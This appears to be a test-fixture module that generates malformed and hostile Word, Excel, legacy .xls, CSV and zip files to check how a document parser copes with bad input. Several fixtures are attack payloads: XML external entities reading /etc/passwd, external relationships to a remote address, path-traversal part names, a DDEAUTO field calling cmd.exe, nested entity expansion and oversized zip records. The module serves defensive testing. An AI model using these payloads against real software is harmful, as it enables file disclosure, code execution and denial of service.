/**
 * Files that nobody built for: packages that lie about themselves, Word files made to grow, other kinds under other
 * names. Small ones; what is large in them is what they claim.
 */
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { strFromU8, strToU8, unzipSync, zipSync } from "fflate";
import { smallBook } from "../files/small-book";

const ROOT = join(__dirname, "../..");
const bytesOf = (path: string): Uint8Array => new Uint8Array(readFileSync(join(ROOT, path)));
const sample = bytesOf("samples/futian-org-2020.xlsx");
const legacy = bytesOf("test/fixtures/legacy.xls");

const OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const PACKAGE = "http://schemas.openxmlformats.org/package/2006";
const W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';

const SHEET = "xl/worksheets/sheet1.xml";
const BOOK = "xl/workbook.xml";
const BOOK_RELS = "xl/_rels/workbook.xml.rels";

type Parts = Record<string, Uint8Array>;

function changed(bytes: Uint8Array, change: (parts: Parts) => void): Uint8Array {
  const parts = unzipSync(bytes);
  change(parts);
  return zipSync(parts);
}

/** The real workbook with one part rewritten. */
const part = (name: string, change: (xml: string) => string): Uint8Array =>
  changed(sample, (parts) => (parts[name] = strToU8(change(strFromU8(parts[name]!)))));

const rows = (xml: string): Uint8Array => smallBook({ rows: xml });

/** A Word document with this body. */
function docx(body: string, more: Record<string, string> = {}, links = ""): Uint8Array {
  const parts: Record<string, string> = {
    "[Content_Types].xml": `<Types xmlns="${PACKAGE}/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/></Types>`,
    "_rels/.rels": `<Relationships xmlns="${PACKAGE}/relationships"><Relationship Id="r" Type="${OFFICE}/officeDocument" Target="word/document.xml"/></Relationships>`,
    "word/_rels/document.xml.rels": `<Relationships xmlns="${PACKAGE}/relationships">${links}</Relationships>`,
    "word/document.xml": `<w:document ${W} xmlns:r="${OFFICE}"><w:body>${body}</w:body></w:document>`,
    ...more,
  };
  return zipSync(Object.fromEntries(Object.entries(parts).map(([name, text]) => [name, strToU8(text)])));
}

const cell = (text: string, properties = "") =>
  `<w:tc>${properties && `<w:tcPr>${properties}</w:tcPr>`}<w:p><w:r><w:t>${text}</w:t></w:r></w:p></w:tc>`;
const table = (...lines: string[]) =>
  `<w:tbl>${lines.map((cells) => `<w:tr>${cells}</w:tr>`).join("")}</w:tbl>`;
const HEAD = ["三级指标", "分值", "评分标准", "得分"].map((text) => cell(text)).join("");
const ROW = ["预算执行率", "6", "按季度", "5.94"].map((text) => cell(text)).join("");
const scored = table(HEAD, ROW);

const nested = (depth: number): string =>
  depth === 0 ? "<w:p/>" : `<w:tbl><w:tr><w:tc>${nested(depth - 1)}<w:p/></w:tc></w:tr></w:tbl>`;

/** The bytes of a package with something done to its directory's records, each at its place. */
function withRecords(bytes: Uint8Array, change: (view: DataView, at: number) => void): Uint8Array {
  const copy = Uint8Array.from(bytes);
  const view = new DataView(copy.buffer);
  for (let at = 0; at + 4 <= copy.length; at++) if (view.getUint32(at, true) === 0x02014b50) change(view, at);
  return copy;
}

/** The package's last 22 bytes say where its directory is. */
function withEnd(change: (view: DataView) => void): Uint8Array {
  const copy = Uint8Array.from(sample);
  change(new DataView(copy.buffer, copy.length - 22));
  return copy;
}

function joined(...pieces: readonly (Uint8Array | string)[]): Uint8Array {
  return Uint8Array.from(Buffer.concat(pieces.map((piece) => Buffer.from(piece as Uint8Array))));
}

function utf16(text: string, littleEndian: boolean): Uint8Array {
  const buffer = Buffer.from(`\ufeff${text}`, "utf16le");
  return Uint8Array.from(littleEndian ? buffer : buffer.swap16());
}

/** An OLE2 file with a stream of that name, for whoever looks no closer. */
function ole(...streams: string[]): Uint8Array {
  const bytes = new Uint8Array(4_096);
  bytes.set([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);
  streams.forEach((name, i) => bytes.set(Buffer.from(`${name}\0`, "utf16le"), 1_024 + i * 128));
  return bytes;
}

const CSV = "三级指标,分值,评分标准,得分\n预算执行率,6,按季度,5.94\n";
const WEB_PAGE = `<html><body><table><tr><td>三级指标</td><td>分值</td><td>得分</td></tr><tr><td>预算执行率</td><td>6</td><td>5.94</td></tr></table></body></html>`;
const MHT = `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n${WEB_PAGE}\r\n--b--\r\n`;

const xlsb = changed(sample, (parts) => {
  delete parts[BOOK];
  parts["xl/workbook.bin"] = new Uint8Array(64);
  parts["_rels/.rels"] = strToU8(strFromU8(parts["_rels/.rels"]!).replace("workbook.xml", "workbook.bin"));
});

/** BIFF8's FILEPASS record behind the stream's first: the workbook has a password. */
function lockedXls(): Uint8Array {
  const bytes = Uint8Array.from(legacy);
  const view = new DataView(bytes.buffer);
  for (let at = 512; at < bytes.length - 8; at += 2) {
    if (view.getUint16(at, true) !== 0x0809 || view.getUint16(at + 2, true) !== 16) continue;
    view.setUint16(at + 20, 0x2f, true);
    break;
  }
  return bytes;
}

const EMPTY_ZIP = Uint8Array.from([0x50, 0x4b, 5, 6, ...Array<number>(18).fill(0)]);

/** What it is, the name that it comes under, and the file. */
export const STRANGE_FILES: readonly (readonly [what: string, name: string, make: () => Uint8Array])[] = [
  // Word files
  ["a dozen nested tables", "a.docx", () => docx(nested(12) + scored)],
  ["five hundred nested tables", "a.docx", () => docx(nested(500) + scored)],
  [
    "a cell over a thousand million columns",
    "a.docx",
    () => docx(table(cell("三级指标", '<w:gridSpan w:val="1000000000"/>'), ROW)),
  ],
  [
    "a cell over less than no column",
    "a.docx",
    () => docx(table(cell("三级指标", '<w:gridSpan w:val="-5"/>'), ROW)),
  ],
  [
    "a cell over no number of columns",
    "a.docx",
    () => docx(table(cell("三级指标", '<w:gridSpan w:val="NaN"/>'), ROW)),
  ],
  [
    "a row that begins far to the right",
    "a.docx",
    () => docx(`<w:tbl><w:tr><w:trPr><w:gridBefore w:val="2147483647"/></w:trPr>${ROW}</w:tr></w:tbl>`),
  ],
  [
    "columns without end in the grid",
    "a.docx",
    () =>
      docx(
        `<w:tbl><w:tblGrid>${'<w:gridCol w:w="1"/>'.repeat(50_000)}</w:tblGrid><w:tr>${ROW}</w:tr></w:tbl>`,
      ),
  ],
  ["a hundred thousand cells in one row", "a.docx", () => docx(table(cell("1").repeat(100_000)))],
  [
    "merges down from nothing",
    "a.docx",
    () => docx(table(cell("三级指标", "<w:vMerge/>") + cell("分值", "<w:vMerge/>"), ROW)),
  ],
  [
    "an altChunk of itself",
    "a.docx",
    () =>
      docx(
        `${scored}<w:altChunk r:id="rId1"/>`,
        {},
        `<Relationship Id="rId1" Type="${OFFICE}/aFChunk" Target="document.xml"/>`,
      ),
  ],
  [
    "relationships to other machines",
    "a.docx",
    () =>
      docx(
        scored,
        {},
        `<Relationship Id="rId1" Type="${OFFICE}/attachedTemplate" Target="http://192.0.2.1/t.dotm" TargetMode="External"/><Relationship Id="rId2" Type="${OFFICE}/footnotes" Target="file:///etc/passwd" TargetMode="External"/>`,
      ),
  ],
  [
    "footnotes out of the package",
    "a.docx",
    () =>
      docx(
        scored,
        {},
        `<Relationship Id="rId2" Type="${OFFICE}/footnotes" Target="../../../../etc/passwd"/>`,
      ),
  ],
  [
    "footnotes that are the document",
    "a.docx",
    () => docx(scored, {}, `<Relationship Id="rId2" Type="${OFFICE}/footnotes" Target="document.xml"/>`),
  ],
  [
    "fields that are never closed",
    "a.docx",
    () =>
      docx(
        `<w:p>${'<w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDEAUTO c:\\cmd.exe</w:instrText></w:r>'.repeat(2_000)}</w:p>${scored}`,
      ),
  ],
  [
    "a DOCTYPE with entities",
    "a.docx",
    () =>
      docx(scored, {
        "word/document.xml": `<!DOCTYPE d [<!ENTITY a SYSTEM "file:///etc/passwd">]><w:document ${W}><w:body>&a;${scored}</w:body></w:document>`,
      }),
  ],
  [
    "entities of entities",
    "a.docx",
    () =>
      docx(scored, {
        "word/document.xml": `<!DOCTYPE d [<!ENTITY a "啊啊啊啊啊"><!ENTITY b "&a;&a;&a;&a;">]><w:document ${W}>&b;</w:document>`,
      }),
  ],
  [
    "a paragraph of four million characters",
    "a.docx",
    () => docx(`<w:p><w:r><w:t>${"每扣1分".repeat(800_000)}</w:t></w:r></w:p>${scored}`),
  ],
  [
    "a cell of a million characters",
    "a.docx",
    () => docx(table(HEAD, cell("预算执行率") + cell("6") + cell("每扣0.5分，".repeat(150_000)) + cell("5"))),
  ],
  ["rows outside tables", "a.docx", () => docx(`<w:tr>${ROW}</w:tr><w:tc/><w:gridCol w:w="3"/>${scored}`)],
  [
    "text boxes in text boxes",
    "a.docx",
    () =>
      docx(
        `<w:p>${"<w:r><w:pict><w:txbxContent><w:p>".repeat(11)}${"</w:p></w:txbxContent></w:pict></w:r>".repeat(11)}</w:p>${scored}`,
      ),
  ],
  ["twenty thousand tables", "a.docx", () => docx(table(cell("1")).repeat(20_000))],
  ["no body", "a.docx", () => docx("", { "word/document.xml": `<w:document ${W}/>` })],
  [
    "a main part that is its own list of links",
    "a.docx",
    () =>
      docx(scored, {
        "_rels/.rels": `<Relationships xmlns="${PACKAGE}/relationships"><Relationship Id="r" Type="${OFFICE}/officeDocument" Target="_rels/.rels"/></Relationships>`,
      }),
  ],
  [
    "styles that are based on each other",
    "a.docx",
    () =>
      docx(
        `<w:p><w:pPr><w:pStyle w:val="a"/></w:pPr></w:p>${scored}`,
        {
          "word/styles.xml": `<w:styles ${W}><w:style w:styleId="a"><w:basedOn w:val="b"/></w:style><w:style w:styleId="b"><w:basedOn w:val="a"/></w:style></w:styles>`,
        },
        `<Relationship Id="s" Type="${OFFICE}/styles" Target="styles.xml"/>`,
      ),
  ],
  ["a workbook under a Word file's name", "a.docx", () => sample],
  ["a Word file under a workbook's name", "a.xlsx", () => docx(scored)],
  // Packages
  [
    "two parts that differ in case",
    "a.xlsx",
    () => changed(sample, (parts) => (parts["XL/Workbook.xml"] = parts[BOOK]!)),
  ],
  [
    "names with backslashes",
    "a.xlsx",
    () =>
      zipSync(
        Object.fromEntries(
          Object.entries(unzipSync(sample)).map(([name, data]) => [name.replace(/\//g, "\\"), data]),
        ),
      ),
  ],
  [
    "the same name twice",
    "a.xlsx",
    () =>
      withRecords(
        changed(sample, (parts) => (parts["xl/workbooK.xml"] = strToU8("<a/>"))),
        (view, at) => {
          if (view.getUint8(at + 46 + 10) === 0x4b) view.setUint8(at + 46 + 10, 0x6b);
        },
      ),
  ],
  ["a wrong checksum", "a.xlsx", () => withRecords(sample, (view, at) => view.setUint32(at + 16, 1, true))],
  [
    "sizes that are too small",
    "a.xlsx",
    () => withRecords(sample, (view, at) => view.setUint32(at + 24, 10, true)),
  ],
  [
    "sizes of four thousand megabytes",
    "a.xlsx",
    () => withRecords(sample, (view, at) => view.setUint32(at + 24, 0xfffffff0, true)),
  ],
  [
    "zip64 sizes that are not there",
    "a.xlsx",
    () => withRecords(sample, (view, at) => view.setUint32(at + 24, 0xffffffff, true)),
  ],
  [
    "an unknown way of packing",
    "a.xlsx",
    () => withRecords(sample, (view, at) => view.setUint16(at + 10, 98, true)),
  ],
  [
    "entries that are encrypted",
    "a.xlsx",
    () => withRecords(sample, (view, at) => view.setUint16(at + 8, 1, true)),
  ],
  [
    "entries all at one place",
    "a.xlsx",
    () => withRecords(sample, (view, at) => view.setUint32(at + 42, 0, true)),
  ],
  ["more entries than there are", "a.xlsx", () => withEnd((view) => view.setUint16(10, 0xffff, true))],
  ["a directory behind the end", "a.xlsx", () => withEnd((view) => view.setUint32(16, 0x7fffffff, true))],
  [
    "a comment that is a second directory",
    "a.xlsx",
    () => joined(sample, sample.subarray(sample.length - 22)),
  ],
  ["a program before the package", "a.xlsx", () => joined("MZ", new Uint8Array(500), sample)],
  ["an archive without entries", "a.xlsx", () => EMPTY_ZIP],
  ["another archive", "a.xlsx", () => zipSync({ "readme.txt": strToU8("1"), "表.xlsx": sample })],
  [
    "names that lead out",
    "a.xlsx",
    () => changed(sample, (parts) => (parts["../../../evil.xml"] = strToU8("<a/>"))),
  ],
  [
    "nine thousand empty parts",
    "a.xlsx",
    () =>
      changed(sample, (parts) => {
        for (let n = 0; n < 9_000; n++) parts[`x/${n}`] = new Uint8Array();
      }),
  ],
  [
    "eleven thousand empty parts",
    "a.xlsx",
    () =>
      changed(sample, (parts) => {
        for (let n = 0; n < 11_000; n++) parts[`x/${n}`] = new Uint8Array();
      }),
  ],
  [
    "relationships that go round",
    "a.xlsx",
    () =>
      changed(
        sample,
        (parts) =>
          (parts["xl/worksheets/_rels/sheet1.xml.rels"] = strToU8(
            `<Relationships xmlns="${PACKAGE}/relationships"><Relationship Id="r" Type="${OFFICE}/comments" Target="sheet1.xml"/><Relationship Id="v" Type="${OFFICE}/vmlDrawing" Target="../workbook.xml"/></Relationships>`,
          )),
      ),
  ],
  [
    "all sheets in one part",
    "a.xlsx",
    () => part(BOOK_RELS, (xml) => xml.replace(/sheet\d\.xml/g, "sheet1.xml")),
  ],
  // Workbooks
  [
    "an outside entity",
    "a.xlsx",
    () =>
      part(SHEET, (xml) =>
        xml.replace(/<worksheet/, '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><worksheet'),
      ),
  ],
  [
    "twenty sheets of one part",
    "a.xlsx",
    () =>
      part(BOOK, (xml) =>
        xml.replace(/<sheet [^>]*rId1"[^>]*\/>/, (sheet) =>
          Array.from({ length: 20 }, (_, n) => sheet.replace(/name="[^"]*"/, `name="s${n}"`)).join(""),
        ),
      ),
  ],
  ["sheets of one name", "a.xlsx", () => part(BOOK, (xml) => xml.replace(/name="[^"]*"/g, 'name="评分表"'))],
  ["a sheet without a name", "a.xlsx", () => part(BOOK, (xml) => xml.replace(/name="评分表"/, 'name=""'))],
  [
    "a sheet named like a path",
    "a.xlsx",
    () => part(BOOK, (xml) => xml.replace(/name="评分表"/, 'name="../../x"')),
  ],
  [
    "cells far below and to the right",
    "a.xlsx",
    () =>
      rows('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row><row r="1"><c r="A1"><v>1</v></c></row>'),
  ],
  [
    "cells beyond every sheet",
    "a.xlsx",
    () => rows('<row r="99999999"><c r="ZZZZZ99999999"><v>1</v></c></row>'),
  ],
  [
    "rows and cells in no order",
    "a.xlsx",
    () =>
      rows(
        '<row r="9"><c r="B9"><v>1</v></c><c r="A9"><v>2</v></c></row><row r="2"><c r="A9"><v>3</v></c></row><row r="-1"><c><v>4</v></c></row>',
      ),
  ],
  [
    "the same cell many times",
    "a.xlsx",
    () => rows(`<row r="1">${'<c r="A1"><v>1</v></c>'.repeat(100_000)}</row>`),
  ],
  [
    "texts that are not there",
    "a.xlsx",
    () =>
      rows(
        '<row r="1"><c r="A1" t="s"><v>4294967295</v></c><c r="B1" t="s"><v>-1</v></c><c r="C1" t="s"><v>__proto__</v></c></row>',
      ),
  ],
  [
    "formulas that refer to themselves",
    "a.xlsx",
    () => rows('<row r="1"><c r="A1"><f>A1+PERF.CONTROL_RATE_SCORE(A1,A1)</f><v>1</v></c></row>'),
  ],
  [
    "a formula of eight thousand brackets",
    "a.xlsx",
    () =>
      rows(
        `<row r="1"><c r="A1"><f>${"(".repeat(4_000)}PERF.CONTROL_RATE_SCORE(1,2)${")".repeat(4_000)}</f><v>1</v></c></row>`,
      ),
  ],
  [
    "dates beyond the calendar",
    "a.xlsx",
    () => rows('<row r="1"><c r="A1" t="d"><v>999999-99-99T99:99:99</v></c><c r="B1"><v>1e300</v></c></row>'),
  ],
  // Other kinds
  ["strict OOXML", "a.xlsx", () => bytesOf("test/fixtures/strict.xlsx")],
  ["an encrypted workbook", "a.xlsx", () => bytesOf("test/fixtures/encrypted.xlsx")],
  ["what only says that it is encrypted", "a.xlsx", () => ole("EncryptedPackage")],
  ["an .xlsb under another name", "a.xlsx", () => xlsb],
  [
    "an OpenDocument table",
    "a.xlsx",
    () =>
      zipSync({
        mimetype: strToU8("application/vnd.oasis.opendocument.spreadsheet"),
        "content.xml": strToU8("<a/>"),
      }),
  ],
  ["an .xls with a password", "a.xls", lockedXls],
  ["an old Word document", "a.xls", () => ole("WordDocument")],
  ["slides", "a.xls", () => ole("PowerPoint Document")],
  ["an OLE2 file of nothing", "a.xls", () => ole()],
  ["only the first bytes of an .xls", "a.xls", () => legacy.subarray(0, 8)],
  [
    "a bare stream of records",
    "a.xls",
    () => Uint8Array.from([9, 8, 0x10, 0, ...Array<number>(3_000).fill(0xff)]),
  ],
  ["a web page as .xls", "a.xls", () => strToU8(WEB_PAGE)],
  [
    "a web page with huge spans",
    "a.xls",
    () => strToU8(WEB_PAGE.replace("<td>", '<td colspan="99999999" rowspan="99999999">')),
  ],
  ["a web page that never closes", "a.xls", () => strToU8(`<html>${"<table><tr><td>".repeat(20_000)}`)],
  ["a web archive", "a.xls", () => strToU8(MHT)],
  ["XML of another kind", "a.xls", () => strToU8('<?xml version="1.0"?><a><b/></a>')],
  ["SYLK", "a.xls", () => strToU8(`ID;PWXL;N;E\nC;Y999999;X99999;K1\nE\n`)],
  ["DIF", "a.xls", () => strToU8('TABLE\n0,1\n"x"\nVECTORS\n0,999999999\n""\nDATA\n0,0\n""\n')],
  ["CSV in UTF-16", "a.csv", () => utf16(CSV, true)],
  ["CSV in UTF-16 the other way round", "a.csv", () => utf16(CSV, false)],
  ["CSV with zero bytes", "a.csv", () => strToU8(CSV.replace("6", "\0"))],
  ["CSV with both marks", "a.csv", () => joined("\ufeff\ufeff", CSV)],
  ["CSV of line ends alone", "a.csv", () => strToU8("\r\n".repeat(200_000))],
  ["CSV of separators alone", "a.csv", () => strToU8(",".repeat(500_000))],
  ["CSV that is broken in a character", "a.csv", () => strToU8(CSV).subarray(0, 20)],
  ["nothing", "a.xlsx", () => new Uint8Array()],
  ["one byte", "a.xlsx", () => Uint8Array.from([0x50])],
  ["blanks", "a.csv", () => strToU8(" \t\n ")],
  ["a picture", "a.xlsx", () => Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])],
];
